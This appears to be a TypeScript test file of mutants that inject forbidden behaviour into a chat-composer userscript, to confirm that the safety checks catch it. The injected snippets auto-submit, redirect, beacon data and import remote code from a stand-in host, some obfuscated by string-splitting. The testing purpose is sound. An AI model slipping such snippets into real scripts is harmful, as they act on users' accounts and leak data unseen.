/** A change of the built script by which it would do what it must never do. */
export interface Mutant {
  readonly name: string;
  change(script: string): string;
}

/** Puts code where the script begins. */
const planted = (name: string, code: string): Mutant => ({
  name,
  change: (script) => put(script, "'use strict';", `'use strict';\n${code}\n`),
});
/** Puts code behind the paste, where the composer is at hand. */
const pasted = (name: string, code: string): Mutant => ({
  name,
  change: (script) => put(script, "const until = Date.now() + showMs;", `${code}\nconst until = Date.now() + showMs;`),
});

function put(script: string, from: string, to: string): string {
  if (script.split(from).length !== 2) throw new Error(`The script has not one place for a mutant: ${from}`);
  return script.replace(from, () => to);
}

const later = (code: string, ms = 3_000): string => `setTimeout(() => { ${code} }, ${ms});`;

/** Each of these sends, presses, navigates or asks somebody else in a page, or would: by what it does, a proof in the browser has to notice it. */
export const acting: readonly Mutant[] = [
  pasted("submits the form", "composer.closest('form')?.requestSubmit();"),
  pasted("presses Send", `document.querySelector('[data-testid="send-button"]')?.click();`),
  pasted(
    "presses Send with a made event",
    `document.querySelector('[data-testid="send-button"]')?.dispatchEvent(new MouseEvent("cl" + "ick", { bubbles: true }));`,
  ),
  pasted(
    "presses Enter",
    `composer.dispatchEvent(new KeyboardEvent("keydown", { key: "Ent" + "er", bubbles: true, cancelable: true }));`,
  ),
  pasted(
    "breaks a paragraph",
    `composer.dispatchEvent(new InputEvent("before" + "input", { inputType: "insert" + "Paragraph", bubbles: true, cancelable: true }));`,
  ),
  pasted("sends by the editor's own command", `document["exec" + "Command"]("insert" + "Paragraph");`),
  pasted(
    "asks the site's private interface",
    `void window["fet" + "ch"]("/back" + "end-api/conversation", { method: "POST" });`,
  ),
  pasted(
    "pastes twice",
    `composer.dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true }));`,
  ),
  pasted(
    "dispatches a submit under another name",
    `const { dispatchEvent: tell } = composer; tell.call(composer.closest("form"), new Event("sub" + "mit", { bubbles: true, cancelable: true }));`,
  ),
  pasted(
    "presses Send by a name that it makes",
    `const how = "cl" + "ick"; const one = document.querySelector('[data-testid="send-button"]'); one?.[how]();`,
  ),
  pasted("goes elsewhere at once", `window.location.href = "https://chatgpt.com/gpts";`),
  pasted("goes elsewhere later, without a trace", later(`window.location.replace("https://elsewhere.example/");`)),
  pasted(
    "goes elsewhere by another name",
    `const place = window.location; ${later(`place.replace("https://chatgpt.com/c/00000000-1111");`)}`,
  ),
  pasted("goes back", later("history.back();")),
  pasted(
    "goes elsewhere by a meta element",
    `const meta = document.createElement("meta"); meta.setAttribute("http-equiv", "refresh"); meta.setAttribute("content", "0;url=https://elsewhere.example/"); document.head.append(meta);`,
  ),
  pasted(
    "asks elsewhere by a picture",
    `const picture = new Image(); picture.setAttribute("src", "https://elsewhere.example/?" + text.length);`,
  ),
  pasted(
    "asks elsewhere by the manager",
    `const ask = GM_xmlhttpRequest; ask({ method: "POST", url: "https://elsewhere.example/", headers: {}, data: "{}", onload() {}, onerror() {} });`,
  ),
  planted(
    "reads by itself",
    `setTimeout(() => void sendJson("http://127.0.0.1:1/v1/tools/call", { name: "search", args: {} }, "x"), 500);`,
  ),
  planted(
    "scrolls by itself",
    `setTimeout(() => document.getElementById("scroller")?.scrollBy(0, -300) ?? document.body.append("x"), 500);`,
  ),
];

/** Those that a proof in the browser could miss by chance, and the syntax alone tells. */
export const planting: readonly Mutant[] = [
  planted(
    "navigates by an alias",
    "const place = window.location; const gone = () => place.replace('https://elsewhere.example/');",
  ),
  planted("takes the location out", "const { location: place } = window; const gone = () => place.reload();"),
  planted(
    "knows the window under another name",
    "const all = window; const gone = () => all.open('https://elsewhere.example/');",
  ),
  planted("goes through history", "const gone = () => history.go(-1);"),
  planted("reaches the document's window", "const gone = () => document.defaultView.history.back();"),
  planted("binds a dispatch", "const tell = document.body.dispatchEvent.bind(document.body);"),
  planted("makes an event", "const made = () => new Event('sub' + 'mit');"),
  planted(
    "sets where a form goes",
    "const gone = (form) => form.setAttribute('action', 'https://elsewhere.example/');",
  ),
  planted("sets an attribute whose name it makes", "const gone = (one, name) => one.setAttribute('on' + name, 'x');"),
  planted("makes a form", "const form = () => make('form', {});"),
  planted("makes an element whose name it makes", "const gone = () => make('ifr' + 'ame', {});"),
  planted("reaches a member by a name that it makes", "const gone = (one, name) => one[name]();"),
  planted(
    "takes a member out by a name that it makes",
    "const gone = (one, name) => { const { [name]: what } = one; what(); };",
  ),
  planted("runs a text", "const gone = () => setTimeout('x()', 1);"),
  planted("makes a function of a text", "const gone = () => (() => {}).constructor('x')();"),
  planted("imports", "const gone = () => import('https://elsewhere.example/x.js');"),
  planted("uses another of the manager's functions", "const gone = () => GM_openInTab('https://elsewhere.example/');"),
  planted("writes markup", "const gone = (one) => { one.innerHTML = '<img src=x>'; };"),
  planted("sets what a link leads to", "const gone = (one) => { one.href = 'https://elsewhere.example/'; };"),
  planted("opens its panel to the page", "const open = (one) => one.attachShadow({ mode: 'open' });"),
  planted("listens by an attribute", "const gone = (one) => { one.onclick = () => {}; };"),
  planted("speaks a socket", "const gone = () => new WebSocket('wss://elsewhere.example/');"),
  planted("reflects", "const gone = (one) => Reflect.get(one, 'sub' + 'mit').call(one);"),
];
